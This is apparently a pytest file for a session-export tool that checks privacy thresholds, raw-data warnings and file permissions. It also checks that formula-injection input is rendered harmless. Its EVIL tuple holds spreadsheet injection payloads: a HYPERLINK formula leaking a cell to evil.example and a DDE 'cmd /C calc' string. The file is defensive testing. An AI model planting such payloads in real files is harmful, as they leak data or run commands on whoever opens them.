"""The session export: the room's thresholds by default, raw answers only when asked and then said
plainly, and every cell safe to open in a spreadsheet (a participant's ``=HYPERLINK(...)``)."""

from __future__ import annotations

import csv
import re
import stat

from kit.cli import main
from kit.live import session as ls
from kit.live.export import export_session
from kit.store import live as repo
from kit.store.live import AnswerIn

EVIL = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+SUM(1,2)", "@cmd|' /C calc'!A0",
        "-2+3")


def rows(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        if fh.read(1) == "#":
            fh.readline()
        else:
            fh.seek(0)
        return list(csv.DictReader(fh))


def session_with_answers(store, settings, new_store: bool = True):
    if new_store:
        store.save_group("g1", "Team One")
    made = ls.create_session(store, settings, title="Export", group_ids=["g1"], expected=6,
                             language="en")
    rounds = {r["exercise"]: r["id"] for r in repo.list_rounds(store, made.session_id)}
    for rid in rounds.values():
        repo.update_round(store, rid, status="open")
    tokens = [f"participant-{i:02d}-abcdefghijk" for i in range(4)]
    for i, token in enumerate(tokens):
        repo.add_participant(store, made.code, token, "g1", "en")
        repo.save_answers(store, made.code, token, rounds["purpose"],
                          [AnswerIn("statement", None, EVIL[i])])
        if i < 2:  # a pulse only two answered: below the threshold of 3
            repo.save_answers(store, made.code, token, rounds["pulse"],
                              [AnswerIn("P01", 1.0 + 4 * i)])
    return made, rounds


def test_export_applies_the_thresholds_and_neutralises_formulas(any_store, live_settings,
                                                              tmp_path) -> None:
    made, rounds = session_with_answers(any_store, live_settings)
    done = export_session(any_store, live_settings, made.code, tmp_path / "out")
    assert done.raw is None and not (tmp_path / "out" / "answers-raw.csv").exists()
    names = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert "answers.csv" not in names and "answers-raw.csv" not in names
    assert rows(tmp_path / "out" / "pulse.csv") == []  # two answered: nothing, not even n
    everything = "".join((tmp_path / "out" / n).read_text() for n in names)
    # the hidden answer 5.0 in no cell (a time such as 04:43:05.024 is not it)
    assert not re.search(r"(?<![\d:.])5\.0(?!\d)", everything.replace("min_respondents", ""))
    statements = [r["statement"] for r in rows(tmp_path / "out" / "purpose.csv")]
    assert sorted(statements) == sorted("'" + x for x in EVIL)  # shown as text, never run
    assert all(not s.startswith(("=", "+", "-", "@")) for s in statements)
    session = rows(tmp_path / "out" / "session.csv")[0]
    assert (session["expected"], session["admitted"], session["min_respondents"]) == \
        ("6", "4", "3")
    by_round = {int(r["round"]): r for r in rows(tmp_path / "out" / "rounds.csv")}
    assert by_round[rounds["pulse"]]["respondents"] == ""
    assert by_round[rounds["purpose"]]["version"] == "1"


def test_raw_export_says_what_it_is(live_store, live_settings, tmp_path, capsys) -> None:
    made, rounds = session_with_answers(live_store, live_settings, new_store=False)
    out = tmp_path / "raw"
    home = ["--home", str(live_settings.home_dir)]
    assert main([*home, "--language", "nb", "session", "export", made.code, "--out", str(out),
                 "--raw"]) == 0
    printed = capsys.readouterr().out
    assert "ADVARSEL" in printed and "RÅDATA" in printed and "ikke del filen" in printed
    assert str(out / "answers-raw.csv") in printed
    # the anonymised files say their rule: the CLI runs with the default 5, higher than the 3 the
    # session was made with, and a threshold can only be raised
    assert "minst 5 per del" in printed
    raw = out / "answers-raw.csv"
    first = raw.read_text(encoding="utf-8").splitlines()[0]
    assert first.startswith("# WARNING: answers-raw.csv holds RAW DATA")  # the session's language
    assert "ADVARSEL" in first and "delete it when the work is done" in first
    assert stat.S_IMODE(raw.stat().st_mode) == 0o600
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    assert "ikke del filen" in (out / "README-RAW.txt").read_text(encoding="utf-8")
    got = rows(raw)
    pulse = sorted(float(r["value"]) for r in got if r["question"] == "P01")
    assert pulse == [1.0, 5.0]  # raw means raw: also what is hidden elsewhere
    texts = {r["text"] for r in got if r["question"] == "statement"}
    assert texts == {"'" + x for x in EVIL}
    assert all(r["admitted"] == "True" for r in got)
    assert "participant-00" not in raw.read_text()  # numbers, never tokens
    assert main([*home, "--language", "en", "session", "export", made.code, "--out",
                 str(tmp_path / "anon")]) == 0
    printed = capsys.readouterr().out
    assert "WARNING" not in printed and "No individual answers" in printed
